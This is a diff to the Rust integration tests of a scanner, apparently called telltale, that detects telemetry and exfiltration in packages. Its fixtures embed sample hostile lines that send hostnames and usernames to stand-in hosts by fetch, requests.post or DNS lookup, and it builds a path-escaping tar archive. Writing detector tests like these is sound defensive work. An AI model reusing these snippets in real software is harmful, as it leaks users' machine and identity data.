@@ -31,8 +31,7 @@ fn exit_codes_follow_fail_on() {
 fn json_findings_have_the_contract_fields() {
     let dir = tempfile::tempdir().unwrap();
     write(dir.path(), "a.js", b"if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Minsk') { console.log('hi'); }");
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([dir.path()]);
     assert_eq!(doc["schema_version"], 1);
     let f = &doc["targets"][0]["findings"][0];
     for key in ["rule", "name", "category", "severity", "file", "line", "column", "offset", "message", "evidence", "countries", "endpoints"] {
@@ -66,8 +65,7 @@ fn send_before_the_opt_out_check_is_reported() {
         "a.js",
         b"const os = require('os');\nfunction track(e) { fetch('https://t.example.com/e', { method: 'POST', body: os.hostname() + e }); }\nfunction main() { track('start'); if (process.env.DO_NOT_TRACK) return; track('run'); }\nmain();\n",
     );
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([dir.path()]);
     let target = &doc["targets"][0];
     let send = &target["label"]["sends"][0];
     assert_eq!(send["sent_before_check"], true, "{send}");
@@ -104,8 +102,7 @@ fn hostile_inputs_give_errors_not_panics() {
     let mut builder = tar::Builder::new(Vec::new());
     builder.append(&header, &b"x=1"[..]).unwrap();
     write(dir.path(), "evil.tar", &builder.into_inner().unwrap());
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path().join("evil.tar")).arg(dir.path().join("trunc.tgz")).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([dir.path().join("evil.tar"), dir.path().join("trunc.tgz")]);
     assert!(doc["targets"][0]["error"].as_str().unwrap().contains("escapes"), "{doc}");
     assert!(!dir.path().parent().unwrap().join("evil.js").exists());
 
@@ -130,9 +127,8 @@ fn odd_files_are_survived() {
     big.extend(std::iter::repeat_n(b'a', 50 << 20));
     big.extend(b"\"; fetch('https://x.example/?h=' + require('os').hostname());");
     write(dir.path(), "big.min.js", &big);
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
+    let (out, doc) = scan_json([dir.path()]);
     assert!(out.status.code() == Some(0) || out.status.code() == Some(1), "{}", String::from_utf8_lossy(&out.stderr));
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     let findings = doc["targets"][0]["findings"].as_array().unwrap();
     let big_flow = findings.iter().find(|f| f["file"] == "big.min.js" && f["category"] == "exfiltration").expect("flow in the 50 MB file");
     assert!(big_flow["snippet"].as_str().unwrap().len() < 200, "snippet is a window, not the line");
@@ -154,9 +150,8 @@ fn odd_python_files_are_survived() {
     big.extend(std::iter::repeat_n(b'a', 20 << 20));
     big.extend(b"'\nrequests.post('https://x.example', data=socket.gethostname())\n");
     write(dir.path(), "big.py", &big);
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
+    let (out, doc) = scan_json([dir.path()]);
     assert!(out.status.code() == Some(0) || out.status.code() == Some(1), "{}", String::from_utf8_lossy(&out.stderr));
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     let findings = doc["targets"][0]["findings"].as_array().unwrap();
     assert!(findings.iter().any(|f| f["file"] == "big.py" && f["category"] == "exfiltration"));
     let warnings = doc["targets"][0]["warnings"].to_string();
@@ -180,8 +175,7 @@ fn python_wheels_and_sdists_load() {
     header.set_mode(0o644);
     tar.append_data(&mut header, "pkg-1.0/setup.py", &code[..]).unwrap();
     write(dir.path(), "pkg-1.0.tar.gz", &tar.into_inner().unwrap().finish().unwrap());
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path().join("pkg-1.0-py3-none-any.whl")).arg(dir.path().join("pkg-1.0.tar.gz")).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([dir.path().join("pkg-1.0-py3-none-any.whl"), dir.path().join("pkg-1.0.tar.gz")]);
     let exfil = |t: usize| doc["targets"][t]["findings"].as_array().unwrap().iter().find(|f| f["category"] == "exfiltration").cloned().unwrap_or_default();
     assert_eq!(exfil(0)["file"], "pkg/__init__.py", "{doc}");
     assert_eq!(exfil(0)["severity"], "high");
@@ -199,9 +193,15 @@ fn rules_and_explain() {
     assert_eq!(telltale().args(["explain", "TT999"]).output().unwrap().status.code(), Some(2));
 }
 
+/// `telltale scan --format json` over the targets: the process output and the parsed report.
+fn scan_json<P: AsRef<std::ffi::OsStr>>(targets: impl IntoIterator<Item = P>) -> (std::process::Output, serde_json::Value) {
+    let out = telltale().args(["scan", "--format", "json"]).args(targets).output().unwrap();
+    let doc = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    (out, doc)
+}
+
 fn flows_in(dir: &std::path::Path) -> Vec<serde_json::Value> {
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([dir]);
     doc["targets"][0]["findings"].as_array().unwrap().iter().filter(|f| f["flow"].as_array().is_some_and(|s| !s.is_empty())).cloned().collect()
 }
 
@@ -238,8 +238,7 @@ fn obfuscation_evidence_names_where_the_encoded_literal_is() {
     write(dir.path(), "a.js", src.as_bytes());
     let col = src.lines().nth(1).unwrap().find('\'').unwrap() + 1;
     let provenance = format!("base64 → literal at 2:{col}");
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path()).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([dir.path()]);
     let findings = doc["targets"][0]["findings"].as_array().unwrap();
     for rule in ["TT401", "TT303"] {
         let f = findings.iter().find(|f| f["rule"] == rule).unwrap_or_else(|| panic!("no {rule} in {findings:#?}"));
@@ -261,8 +260,7 @@ fn vsix_extension_activation_is_in_the_label() {
     zip.start_file("extension/out/extension.js", opts).unwrap();
     zip.write_all(b"const os = require('os'); fetch('https://t.example.com/?u=' + os.userInfo().username);").unwrap();
     zip.finish().unwrap();
-    let out = telltale().args(["scan", "--format", "json"]).arg(&vsix).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([&vsix]);
     let activation = doc["targets"][0]["label"]["activation"][0].as_str().unwrap_or_else(|| panic!("{doc}"));
     assert!(activation.contains("./out/extension.js runs at every VS Code start (onStartupFinished)"), "{activation}");
     assert!(doc["targets"][0]["findings"].as_array().unwrap().iter().any(|f| f["file"] == "extension/out/extension.js" && f["category"] == "exfiltration"));
@@ -279,8 +277,7 @@ fn node_modules_gives_one_report_per_installed_package() {
     pkg("a", "a", "module.exports = 1;");
     pkg("@s/b", "@s/b", "require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
     pkg("a/node_modules/c", "c", "fetch('https://t.example.com/?u=' + require('os').userInfo().username);");
-    let out = telltale().args(["scan", "--format", "json"]).arg(&nm).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([&nm]);
     let targets = doc["targets"].as_array().unwrap();
     assert_eq!(targets.len(), 3, "{doc}");
     let findings = |prefix: &str| targets.iter().find(|t| t["target"].as_str().unwrap().starts_with(prefix)).map(|t| t["findings"].as_array().unwrap().len()).unwrap_or_else(|| panic!("{prefix} in {doc}"));
@@ -289,29 +286,48 @@ fn node_modules_gives_one_report_per_installed_package() {
     assert!(findings("c@1.0.0") > 0);
 }
 
+/// A Node single executable application: the flipped fuse and a `NODE_SEA_BLOB` with the
+/// given flags and fields (u64 length, bytes).
+fn sea_executable(flags: u32, fields: &[&[u8]]) -> Vec<u8> {
+    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
+    exe.extend_from_slice(&[0; 56]);
+    exe.extend_from_slice(b"NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:1\0");
+    exe.extend_from_slice(&0x0143_da20u32.to_le_bytes());
+    exe.extend_from_slice(&flags.to_le_bytes());
+    for field in fields {
+        exe.extend_from_slice(&(field.len() as u64).to_le_bytes());
+        exe.extend_from_slice(field);
+    }
+    exe.extend_from_slice(&[0; 32]);
+    exe
+}
+
 /// A hand-built Node single executable application: the flipped fuse and a `NODE_SEA_BLOB`
 /// (Node 21+ layout: magic, flags, main script path, code). Its main script is analysed as
 /// `app › main.js`, with locations inside that script.
 #[test]
 fn node_sea_executable_main_script_is_analysed() {
     let code: &[u8] = b"const os = require('os');\nrequire('https').get('https://collect.example-metrics.top/u?h=' + os.hostname());\n";
-    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
-    exe.extend_from_slice(&[0; 56]);
-    exe.extend_from_slice(b"NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:1\0");
-    exe.extend_from_slice(&0x0143_da20u32.to_le_bytes());
-    exe.extend_from_slice(&1u32.to_le_bytes());
-    for field in [b"/build/app/main.js".as_slice(), code] {
-        exe.extend_from_slice(&(field.len() as u64).to_le_bytes());
-        exe.extend_from_slice(field);
-    }
-    exe.extend_from_slice(&[0; 32]);
+    let exe = sea_executable(1, &[b"/build/app/main.js", code]);
     let dir = tempfile::tempdir().unwrap();
     write(dir.path(), "app", &exe);
-    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path().join("app")).output().unwrap();
-    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let (_, doc) = scan_json([dir.path().join("app")]);
     let findings = doc["targets"][0]["findings"].as_array().cloned().unwrap_or_default();
     let exfil = findings.iter().find(|f| f["category"] == "exfiltration").unwrap_or_else(|| panic!("no exfiltration finding: {doc}"));
     assert!(exfil["file"].as_str().unwrap().ends_with("app › main.js"), "{exfil}");
     assert_eq!(exfil["line"], 2, "{exfil}");
     assert!(exfil["endpoints"].to_string().contains("collect.example-metrics.top"), "{exfil}");
+}
+
+/// A SEA built as a V8 snapshot holds no source: the scan says so, and still searches the
+/// binary's strings for endpoints.
+#[test]
+fn node_sea_snapshot_is_reported_as_skipped() {
+    let exe = sea_executable(2, &[b"main.js", b"\x00\x01snapshot https://snap.example-metrics.top/v1/t \x00"]);
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "app", &exe);
+    let (_, doc) = scan_json([dir.path().join("app")]);
+    let warnings = doc["targets"][0]["warnings"].to_string();
+    assert!(warnings.contains("embedded by node-sea") && warnings.contains("1 without JavaScript text"), "{doc}");
+    assert!(doc.to_string().contains("snap.example-metrics.top"), "{doc}");
 }
